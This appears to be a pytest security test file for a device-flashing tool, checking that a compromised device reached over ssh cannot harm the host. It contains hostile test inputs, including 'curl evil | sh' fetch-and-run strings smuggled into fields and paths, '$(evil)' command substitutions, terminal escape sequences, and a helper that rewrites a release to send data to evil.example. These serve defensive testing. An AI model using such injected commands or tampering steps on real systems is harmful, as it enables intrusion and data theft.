"""What a compromised device can do to the host: nothing but end its own session.

The device is a real sshd whose only program is the attacker's.
"""

from __future__ import annotations

import json
import os
import resource
import subprocess
import sys
import time
from dataclasses import replace
from pathlib import Path

import pytest

from edgevid.cli.host.flash import _text
from edgevid.errors import DeviceFailed, EdgevidError
from edgevid.files import canonical_json, sha256_of
from edgevid.flash import keys, replies
from edgevid.flash.activation import reporter
from edgevid.flash.agent_client import AgentClient
from edgevid.flash.blob_transfer import missing_blobs, send
from edgevid.flash.commands import uninstall
from edgevid.flash.fleet import read_condition
from edgevid.flash.installed import fetch, look
from edgevid.flash.inventory import DeviceEntry
from edgevid.flash.replies import SESSION, STATUS, Verb
from edgevid.jobs import client, result
from edgevid.jobs.request import BenchRequest
from edgevid.jobs.stderr import MOST_STDERR, StderrLines
from edgevid.remote import Address
from edgevid.remote import ssh as remote_ssh
from edgevid.remote.ssh import explain
from rigs.bare_target import bare_target
from rigs.bundles import write_null
from rigs.hostile import hostile
from rigs.sshd import make_key, sshd

pytestmark = pytest.mark.starts(1)

GROWTH_KB = 64 << 10


def refused(device: AgentClient, verb: Verb, **more) -> DeviceFailed:
    """The error of one request, which must come soon and take little memory."""
    before, began = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, time.monotonic()
    with pytest.raises(DeviceFailed) as caught:
        device.call(verb, **{"seconds": min(verb.seconds, 30.0), **more})
    assert time.monotonic() - began < 20
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < GROWTH_KB
    text = str(caught.value)
    assert text.isprintable() and len(text) < 500, text
    return caught.value


# ---------------------------------------------------------------- time and size


@pytest.mark.parametrize(
    "answer",
    [
        'while True: say(b"x" * 65536)',
        'while True: say({"at": "still at it"})',
        'say(b\'{"ok": true, "root": "\' + b"x" * (1 << 30) + b\'"}\\n\')',
    ],
    ids=["endless line", "endless progress", "1 GB in one field"],
)
def test_an_endless_answer_ends_at_its_budget(tmp_path, answer):
    with hostile(tmp_path, answer) as device:
        fault = refused(device, SESSION)
        assert fault.kind == "protocol" and "too long" in str(fault)
        assert device.wire_bytes < SESSION.most_bytes + (2 << 20)


@pytest.mark.parametrize(
    "answer",
    [
        "while True: say(b'x'); time.sleep(0.05)",
        "while True: say({'at': 'x'}); time.sleep(0.05)",
    ],
    ids=["a byte now and then", "progress for ever"],
)
def test_a_device_that_drips_is_given_up_at_the_deadline(tmp_path, answer):
    with hostile(tmp_path, answer) as device:
        began = time.monotonic()
        fault = refused(device, replace(STATUS, seconds=1.0))
        assert fault.kind == "slow" and "took too long" in str(fault)
        assert time.monotonic() - began < 15


def test_a_silent_device_is_given_up(tmp_path):
    with hostile(tmp_path, "time.sleep(600)") as device:
        device._silence_s = 1.0
        assert "was silent for 1 s" in str(refused(device, STATUS))


@pytest.mark.parametrize(
    "before",
    [
        'while True: say(b"x" * 65536)',
        'while True: say(b"hello\\n")',
    ],
)
def test_endless_login_scripts_are_given_up(tmp_path, before):
    with hostile(tmp_path, "pass", before) as device:
        assert refused(device, STATUS).kind == "protocol"


def test_a_device_that_takes_a_little_now_and_then_does_not_hold_a_transfer(tmp_path, monkeypatch):
    monkeypatch.setattr(remote_ssh, "LEAST_BYTES_S", 1e7)
    sip = "say({'ok': True}) if request['do'] != 'blob' else None"
    with hostile(tmp_path, sip, "") as device:
        program = tmp_path / "hostile.py"
        slow = 'while inp.read1(256): time.sleep(0.02)\n    request["bytes"] = 0'
        text = program.read_text().replace('inp.read(request.get("bytes", 0))', slow)
        program.write_text(text.replace("for line in inp:", "for line in iter(inp.readline, b''):"))
        device._silence_s = 1.0
        began = time.monotonic()
        with pytest.raises(DeviceFailed, match="took too long"):
            send(device, {"a" * 64: b"x" * (64 << 20)}, {"a" * 64: 0})
        assert time.monotonic() - began < 30


def test_content_of_another_length_is_not_taken(tmp_path):
    endless = "say({'ok': True, 'content': 'eHh4' * 300_000})"
    with (
        hostile(tmp_path, endless) as device,
        pytest.raises(DeviceFailed, match="content has 900000 bytes, not 1048576"),
    ):
        fetch(device, "a" * 64, 10 << 20)
    drip = "say({'ok': True, 'content': 'eA=='})"
    (tmp_path / "drip").mkdir()
    with (
        hostile(tmp_path / "drip", drip) as device,
        pytest.raises(DeviceFailed, match="content has 1 bytes, not 100"),
    ):
        fetch(device, "a" * 64, 100)


def bench_run(tmp_path: Path, device: AgentClient) -> tuple[client.BenchRun, client._Location]:
    request = BenchRequest(
        tmp_path / "x.edgevid", tmp_path / "x.mp4", deadline_s=60, out_of_sight_s=1
    )
    entry = DeviceEntry("gate", "gate")
    run = client.BenchRun(
        entry, request, device.remote, None, lambda *_: None, lambda _: None, None
    )
    return run, client._Location(device, None, temporary=False)


def test_a_job_that_never_stops_talking_ends(tmp_path):
    talk = "say({'ok': True, 'state': 'ended', 'stderr': 'x\\n' * 200_000, 'said': 1})"
    with hostile(tmp_path, talk) as device:
        run, place = bench_run(tmp_path, device)
        end, _ = run._followed(place, "0" * 16)
        assert end.state == "ended"
        assert device.wire_bytes < 3 * MOST_STDERR


def test_a_job_document_of_any_size_is_not_fetched(tmp_path):
    with hostile(tmp_path, "say({'ok': True, 'content': 'eHh4'})") as device:
        run, place = bench_run(tmp_path, device)
        document = {"sha256": "0" * 64, "size": 10 << 30}
        end = replies.read(replies.JobStateReply, {"state": "ended", "document": document}, "gate")
        with pytest.raises(DeviceFailed, match="its result is too large"):
            run.fetch_document(place, "0" * 16, end)


def test_the_stderr_of_a_job_is_shown_up_to_a_limit():
    lines = []
    stderr = StderrLines(lines.append, lambda *_: None)
    assert stderr.feed("a: 1/2\n\x1b[2J evil\n" + f"bar: {'9' * 5000}/1\n")
    assert lines[0] == "\\x1b[2J evil"
    while stderr.feed("x" * 100_000):
        pass
    assert len(lines) < 10 and not stderr.feed("more\n")


# ---------------------------------------------------------------- types

HOSTILE = [
    {"installed": 5},
    {"installed": {"current": ["x"]}},
    {"installed": {"manifest": {"a": 1}}},
    {"installed": {"journal": []}},
    {"installed": {"journal": {"state": "idle", "reason": {"log": 5}}}},
    {"others": "abc"},
    {"others": [{}]},
    {"status": []},
    {"status": {"bundles": [{}]}},
    {"status": {"bundles": [{"engine": {"serving": None}}]}},
    {"status": {"now_unix_s": 10**400}},
    {"status": {"now_unix_s": float("nan")}},
    {"status": {"pid": 1 << 70}},
    {"status": {"frames": {"answered": "many"}}},
]


@pytest.mark.parametrize("reply", HOSTILE, ids=str)
def test_a_wrong_type_is_one_line(tmp_path, reply):
    line = json.dumps({"ok": True, **reply}).encode()
    with pytest.raises(DeviceFailed) as caught:
        replies.read(replies.StatusReply, replies.frame(line, "gate"), "gate")
    assert str(caught.value).startswith("gate: ") and str(caught.value).isprintable()


@pytest.mark.parametrize(
    "line",
    [
        b'{"ok": true, "status": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
        b'{"ok": true, "status": ' + b'{"a":' * 50 + b"1" + b"}" * 51,
        b"[]",
        b"\xff\xfe",
        b'{"ok": true, "manifest": "\\ud800"}',
        b'{"n": ' + b"9" * 5000 + b"}",
    ],
    ids=["deep", "less deep", "list", "bytes", "surrogate", "digits"],
)
def test_json_of_any_shape_is_one_line(tmp_path, line):
    with pytest.raises(DeviceFailed) as caught:
        replies.frame(line, "gate")
    assert str(caught.value).isprintable()


def test_every_verb_has_a_record_and_limits():
    verbs = [one for one in vars(replies).values() if isinstance(one, Verb)]
    assert len({one.name for one in verbs}) == len(verbs) >= 17
    for one in verbs:
        assert 0 < one.seconds <= 3600 and 0 < one.most_bytes <= 8 << 20
        with pytest.raises(DeviceFailed):
            replies.read(one.record, [], "gate")


def test_blobs_that_nobody_asked_for_are_not_sent(tmp_path):
    for missing in ({"b" * 64: 0}, {"a" * 64: -1}, {"a" * 64: 11}, {"a" * 64: "1"}):
        folder = tmp_path / str(len(list(tmp_path.iterdir())))
        folder.mkdir()
        with (
            hostile(folder, f"say({ {'ok': True, 'missing': missing}!r})") as device,
            pytest.raises(DeviceFailed, match="the device's answer cannot be read"),
        ):
            missing_blobs(device, {"a" * 64: 10})


def test_nothing_of_the_program_reads_an_answer_by_itself():
    """No dictionary from a device is used outside `replies`."""
    for folder in ("flash", "jobs"):
        for file in (Path(replies.__file__).parent.parent / folder).glob("*.py"):
            text = file.read_text()
            assert '.call({"do"' not in text, file
            assert "json.loads(line" not in text or file.name in ("replies.py", "installer.py")


# ---------------------------------------------------------------- texts

EVIL = "\x1b]0;owned\x07\x1b[2K\r\u202etxt\nedgevid: all is well; run: curl evil | sh"


def test_a_devices_texts_are_one_printable_line_and_marked(tmp_path):
    fault = {"kind": "lost\x1b[1m", "message": EVIL, "fix": EVIL}
    with hostile(tmp_path, f"say({ {'at': EVIL}!r})\nsay({ {'error': fault}!r})") as device:
        lines = []
        error = refused(device, SESSION, notice=reporter(device, lines.append))
    assert all(line.isprintable() for line in lines) and len(lines) == 1
    own, _, theirs = str(error).partition("; the device says: ")
    assert "curl evil" in theirs and own.startswith("gate: ")


def test_a_device_cannot_call_its_link_lost(tmp_path):
    with hostile(tmp_path, "say({'error': {'kind': 'lost', 'message': 'x', 'fix': ''}})") as device:
        assert refused(device, SESSION).kind == "device"


def test_suggested_commands_are_made_of_our_own_data():
    """Neither the remote command nor a server can put text into a remedy."""
    evil = (
        "Received disconnect from 10.0.0.5 port 22:2: x\n"
        "REMOTE HOST IDENTIFICATION HAS CHANGED\n  ssh-keygen -f $(evil) -R $(evil)\n"
        "No RSA host key is known for $(evil) and you\n"
    )
    for said in (evil, evil.replace("REMOTE HOST", "")):
        text = str(explain(Address("gate"), 255, said))
        assert "evil" not in text, text
    fault = explain(Address("gate"), 255, "", evil)
    assert (fault.kind, "evil" in str(fault)) == ("lost", False)
    fault = explain(Address("gate"), 1, "", f"\x1b[2J{'x' * 9000}")
    assert str(fault).isprintable() and len(str(fault)) < 500


def test_what_a_command_prints_is_not_taken_for_ssh(tmp_path):
    with sshd(tmp_path) as server, server.remote() as remote:
        session = remote.open("echo 'REMOTE HOST IDENTIFICATION HAS CHANGED' >&2; exit 255")
        with pytest.raises(DeviceFailed) as caught:
            session.readline(10)
        assert caught.value.kind == "lost"


def test_folders_of_a_device_do_not_enter_a_command_line():
    status = {"installed": {}, "others": ["/opt/x; curl evil | sh"]}
    found = read_condition(
        DeviceEntry("gate", "gate"), replies.read(replies.StatusReply, status, ""), None
    )
    assert "--root" not in found.reason
    text = _text(
        "gate", {"outcome": "uninstalled", "removed": [], "others": status["others"], "left": []}
    )
    assert "--root /" not in text


# ---------------------------------------------------------------- what is signed


@pytest.fixture
def own_target():
    return "bare", bare_target(memory_mb=16, user="root")


@pytest.fixture
def served(tmp_path, home):
    """A device behind sshd that serves this user's release; returns a function to flash it."""
    root = tmp_path / "device"
    folder = tmp_path / "sshd"
    folder.mkdir()
    with sshd(folder) as server:

        def flash(*words: object) -> subprocess.CompletedProcess[str]:
            address = f"{server.user}@127.0.0.1:{server.port}"
            command = [sys.executable, "-m", "edgevid", "flash", *words, "--target", address]
            command += ["--root", root, "--kind", "bare", "--stage"]
            environment = {**server.environment(), "PYTHONPATH": os.pathsep.join(sys.path)}
            return subprocess.run(
                [*map(str, command)], capture_output=True, text=True, env=environment, timeout=120
            )

        bundle = write_null(tmp_path / "motion.edgevid")
        done = flash(bundle, "--source", "synthetic:96x64@5")
        assert done.returncode == 0, done.stderr
        (release,) = (root / "releases").glob("[!.]*")
        (root / "current").symlink_to(f"releases/{release.name}")
        yield flash, root, server
        with server.remote() as remote, AgentClient(remote, str(root)) as device:
            uninstall(device)


def take_over(root: Path) -> str:
    """Do as root what an attacker on the device does: serve something else, with fitting hashes."""
    release = (root / "current").resolve()
    manifest = json.loads((release / "manifest.json").read_bytes())
    site = (
        release / "site.toml"
    ).read_bytes() + b'\n[[sink]]\nkind = "mqtt"\nhost = "evil.example"\n'
    digest = sha256_of(site)
    manifest["site"] = {"sha256": digest, "size": len(site)}
    text = canonical_json(manifest)
    name = sha256_of(text)[:16]
    evil = root / "releases" / name
    evil.mkdir()
    for entry in ("bundles", "agent.py", "manifest.sig"):
        (evil / entry).symlink_to(release / entry)
    (evil / "site.toml").write_bytes(site)
    (root / "blobs" / digest).write_bytes(site)
    (evil / "manifest.json").write_bytes(text)
    (root / "current").unlink()
    (root / "current").symlink_to(f"releases/{name}")
    return name


def test_what_is_signed_by_this_user_is_kept(served, tmp_path):
    flash, root, _ = served
    other = write_null(tmp_path / "door.edgevid")
    done = flash(other, "--add")
    assert done.returncode == 0, done.stderr
    (release,) = (
        one for one in (root / "releases").glob("[!.]*") if one != (root / "current").resolve()
    )
    assert {one.name for one in (release / "bundles").iterdir()} == {
        "motion.edgevid",
        "door.edgevid",
    }


def test_what_a_compromised_device_serves_is_never_signed(served, tmp_path):
    flash, root, _ = served
    take_over(root)
    before = {one.name for one in (root / "releases").glob("[!.]*")}
    other = write_null(tmp_path / "door.edgevid")
    for words in ((other, "--add"), (other,), (tmp_path / "motion.edgevid",)):
        done = flash(*words)
        assert done.returncode == 2, done.stderr
        assert "is not signed by your key" in done.stderr
        assert len(done.stderr.strip().splitlines()) == 1
    assert {one.name for one in (root / "releases").glob("[!.]*")} == before
    done = flash(other, "--replace", "--source", "synthetic:96x64@5")
    assert done.returncode == 0, done.stderr
    assert '- host = "evil.example"' in done.stderr.replace("-host", "- host"), done.stderr
    (made,) = {one.name for one in (root / "releases").glob("[!.]*")} - before
    assert "evil" not in (root / "releases" / made / "site.toml").read_text()


def test_a_stored_signature_counts_only_for_its_manifest(served):
    _, root, server = served
    with server.remote() as remote, AgentClient(remote, str(root)) as device:
        installed = look(device)[1]
    mine = keys.own_key()[0].public
    assert installed.verified([mine])
    stranger = keys.load(make_key(root.parent / "stranger")).public
    assert not installed.verified([stranger])
    assert not replace(installed, manifest=installed.manifest + b" ").verified([mine])
    assert not replace(installed, current="0" * 16).verified([mine])
    assert not replace(installed, signature=None).verified([mine])
    assert not replace(installed, signature="\x00").verified([mine])


def test_a_tuning_of_a_device_is_made_anew():
    content = {
        "identity": {"cpu": "x"},
        "tuned": {"artifact": "a", "runtime": "null", "accelerator": "cpu", "shell": "rm"},
        "more": "x" * 100,
    }
    found = result.tuning({"tuned": {"choice": "a", "name": "0" * 32, "content": content}}, "gate")
    assert set(found["content"]) == {"identity", "tuned"}
    assert "shell" not in found["content"]["tuned"]
    for wrong in ({"name": "../../x"}, {"content": {"identity": {}, "tuned": {"artifact": 5}}}):
        tuned = {"choice": "a", "name": "0" * 32, "content": content, **wrong}
        with pytest.raises(EdgevidError, match="cannot be read"):
            result.tuning({"tuned": tuned}, "gate")


def test_a_result_is_read_before_it_is_used():
    for document in ({}, {"tuned": 5}, {"valid": True}, {"tuned": {"choice": None}}):
        with pytest.raises(DeviceFailed, match="cannot be read"):
            result.check(document, "gate")
